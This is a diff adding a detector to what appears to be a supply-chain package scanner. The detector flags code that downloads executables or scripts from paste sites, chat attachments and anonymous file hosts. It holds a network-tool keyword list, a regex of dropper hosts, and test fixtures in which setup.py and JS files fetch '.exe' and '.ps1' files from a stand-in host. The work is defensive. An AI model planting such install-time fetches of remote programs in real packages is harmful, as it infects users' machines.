@@ -1,0 +1,82 @@
+import { deedsOf } from "../behaviour/trace.ts";
+import type { Detector } from "../detector.ts";
+import type { SourceFile } from "../model.ts";
+import { codeWith, matchInCode, sight } from "./_sight.ts";
+
+const NETWORK = [
+  "urlopen",
+  "urlretrieve",
+  "requests",
+  "httpx",
+  "aiohttp",
+  "urllib",
+  "curl",
+  "wget",
+  "https.get",
+  "fetch(",
+  "axios",
+  "downloadstring",
+  "downloadfile",
+  "invoke-webrequest",
+  "iwr ",
+] as const;
+/** Programs and scripts by their extension, at a host that is not a project's own release page. */
+const PROGRAM =
+  /https?:\/\/[^\s"'`<>]{4,300}\.(?:exe|scr|bat|cmd|vbs|ps1|hta|msi|dll|pif|com\/[^\s"'`]{1,80}\.bin)(?![\w.])/i;
+/** Places where anybody can leave a file without a name: chat attachments, pastes, throw-away file hosts. */
+const DROP =
+  /(?:cdn|media)\.discordapp\.(?:com|net)\/attachments\/|pastebin\.com\/raw\/|rentry\.(?:co|org)\/[\w-]{2,40}\/raw|hastebin\.com\/raw|paste\.(?:ee|rs|bingner\.com)\/[\w/]{3,40}|transfer\.sh\/[\w/]{3,60}|anonfiles\.com\/|gofile\.io\/|catbox\.moe\/|file\.io\/|dropbox\.com\/(?:s|scl)\/[^\s"'`]{5,200}(?:dl|raw)=1|dl\.dropbox(?:usercontent)?\.com\/|raw\.githubusercontent\.com\/[^\s"'`]{3,200}\.(?:exe|py|txt|ps1|bat|vbs)(?![\w.])|gist(?:\.githubusercontent)?\.com\/[^\s"'`]{3,200}\/raw|controlc\.com\/|ghostbin\.|bashupload\.com\/|0x0\.st\/|oshi\.at\/|temp\.sh\/|store\d?\.gofile/i;
+
+export const fetchesProgram: Detector = {
+  id: "fetches-program",
+  title: "Fetches a program or a script from a place without an owner",
+  severity: "medium",
+  ecosystems: ["pypi", "npm", "nuget"],
+  points: 3.6,
+  class: "threat",
+  group: "suspicious-host",
+  why: `The code names a Windows program, a script or a paste at a chat attachment, a paste site or a throw-away file host, and the file
+uses the network. Droppers keep their second stage at such places because they cost nothing and need no name.
+
+A library that downloads its own native part from its release page in a function gets few points.`,
+  literals: NETWORK,
+  *detect(tree) {
+    for (const file of codeWith(tree, NETWORK)) {
+      const drop = matchInCode(file, DROP);
+      const match = drop ?? matchInCode(file, PROGRAM);
+      if (match === undefined) continue;
+      const share = shareOf(file) * (drop === undefined ? 0.8 : 1);
+      yield sight(file, match.index, `fetches ${match[0].slice(0, 200)}`, { share });
+    }
+  },
+  examples: {
+    matches: [
+      {
+        ecosystem: "pypi",
+        files: { "setup.py": "import requests\nrequests.get('https://example.invalid/update.exe')\n" },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "fetch('https://example.invalid/x/' + 'https:' + '//example.invalid/run.ps1' || 'https://example.invalid/run.ps1');\n",
+        },
+      },
+    ],
+    passes: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/a.py":
+            "import requests\nrequests.get('https://example.invalid/data.json')\n# https://example.invalid/x.exe\n",
+        },
+      },
+    ],
+  },
+};
+
+function shareOf(file: SourceFile): number {
+  if (file.phase === "install" || file.phase === "start") return 1;
+  const soon = deedsOf(file, "http", "upload", "start", "run-code").some((deed) => deed.phase === "import");
+  return soon ? 1 : 0.35;
+}
